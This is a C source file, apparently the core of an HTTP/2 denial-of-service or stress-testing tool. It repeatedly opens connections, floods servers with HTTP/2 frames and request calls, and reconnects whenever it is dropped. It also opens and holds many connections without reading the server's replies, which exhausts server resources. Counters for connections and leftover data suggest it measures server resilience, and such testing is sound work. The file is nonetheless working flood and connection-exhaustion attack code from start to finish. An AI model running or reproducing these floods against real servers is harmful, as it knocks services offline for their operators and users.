#include "attack.h"

#include <stdlib.h>

#include <nghttp2/nghttp2.h>

#include "support/counts.h"
#include "support/process.h"

enum {
    FRAMES = 2000,
    CALLS_OVER_H2 = 50,
    SINGLE_CALLS = 500,
    FULL_MESSAGES = 4,
    REFUSALS_MAX = 100, /* in a row: the server takes no more */
    QUIET_MS = 5000,    /* nothing comes for so long: the server makes no more answers */
    HEAD = 9,           /* of a frame of HTTP/2 */
};

bool attacker_continues(const attacker *a)
{
    return !atomic_load_explicit(a->stop, memory_order_relaxed);
}

bool attacker_open(attacker *a, raw *r)
{
    if (!raw_open(r, a->wire, 1 + a->nth, a->stop)) {
        process_pause();
        return false;
    }
    atomic_fetch_add(&a->connections, 1);
    return true;
}

/* ---- floods ----------------------------------------------------------------------------- */

static bool put_calls(bytes *b, flood *f, const attack *of)
{
    if (target_uses_h2(f->wire)) {
        for (size_t i = 0; i < CALLS_OVER_H2; i++)
            put_call(b, f->wire, f->next++, of->call);
        return false;
    }
    for (size_t i = 0; i < (of->calls_of_a_message > 1 ? FULL_MESSAGES : SINGLE_CALLS); i++)
        sp_put_frame(b, f->wire, ++f->next, of->call, of->calls_of_a_message);
    return true;
}

static bool fill(bytes *b, flood *f, const attack *of)
{
    if (of->fill)
        return of->fill(b, f);
    if (of->call)
        return put_calls(b, f, of);
    for (size_t i = 0; i < FRAMES; i++)
        h2_put_frame(b, of->frame.type, of->frame.flags, of->frame.id, of->frame.data, of->frame.len);
    return true;
}

/* Whoever is thrown out comes again. */
static void run_flood(attacker *a)
{
    bytes b = {0};

    while (attacker_continues(a)) {
        flood f = {.wire = a->wire};
        raw r;
        if (!attacker_open(a, &r))
            continue;
        b.len = 0;
        put_beginning(&b, a->wire);
        if (a->attack->open)
            a->attack->open(&b, &f);
        bool goes = raw_send(&r, b.data, b.len), again = false;
        while (goes) {
            if (!again) {
                b.len = 0;
                again = fill(&b, &f, a->attack);
            }
            goes = raw_send(&r, b.data, b.len);
        }
        raw_close(&r);
    }
    bytes_free(&b);
}

/* ---- holds ------------------------------------------------------------------------------ */

holding attacker_take(attacker *a, size_t n, bool (*take)(attacker *a, raw *r, size_t i))
{
    holding h = {.raws = calloc(n, sizeof *h.raws)};

    if (!h.raws)
        abort();
    for (size_t i = 0, refused = 0; i < n && refused < REFUSALS_MAX && attacker_continues(a); i++) {
        if (take(a, &h.raws[h.n], i)) {
            h.n++;
            refused = 0;
        } else {
            raw_close(&h.raws[h.n]);
            refused++;
        }
    }
    return h;
}

/* Reads frames until n_calls answers have begun and the PING is answered, which came after all else. False when the
 * server says nothing more. */
static bool await_answers_of(const attacker *a, raw *r, size_t n_calls)
{
    bytes in = {0};
    size_t n = 0;
    bool heard = false, quiet = false;

    while ((n < n_calls || !heard) && !quiet && attacker_continues(a)) {
        uint8_t more[4096];
        ssize_t got = raw_receive(r, more, sizeof more, QUIET_MS);
        quiet = got <= 0;
        bytes_put(&in, more, quiet ? 0 : (size_t)got);
        size_t at = 0, len;
        for (const uint8_t *head; in.len - at >= HEAD; at += HEAD + len) {
            head = in.data + at;
            len = (size_t)head[0] << 16 | (size_t)head[1] << 8 | head[2];
            if (in.len - at < HEAD + len)
                break;
            n += head[3] == NGHTTP2_HEADERS;
            heard = heard || head[3] == NGHTTP2_PING;
        }
        bytes_drop(&in, at);
    }
    bytes_free(&in);
    return !quiet;
}

/* What the server says while it is held is not read. */
static void run_hold(attacker *a)
{
    static const atomic_bool go_on;
    holding h = attacker_take(a, counts_of(a->attack->fast, a->attack->full), a->attack->take);
    size_t left = 0;

    for (size_t i = 0; a->attack->answers > 0 && i < h.n; i++)
        if (!await_answers_of(a, &h.raws[i], a->attack->answers))
            break;
    atomic_store(&a->at_peak, true);
    while (attacker_continues(a))
        process_pause();
    for (size_t i = 0; i < h.n; i++) {
        h.raws[i].stop = &go_on;
        left += raw_drop(&h.raws[i]);
        raw_close(&h.raws[i]);
    }
    atomic_store(&a->left, left);
    free(h.raws);
}

void attacker_run(attacker *a)
{
    if (a->attack->run)
        a->attack->run(a);
    else if (a->attack->take)
        run_hold(a);
    else
        run_flood(a);
}
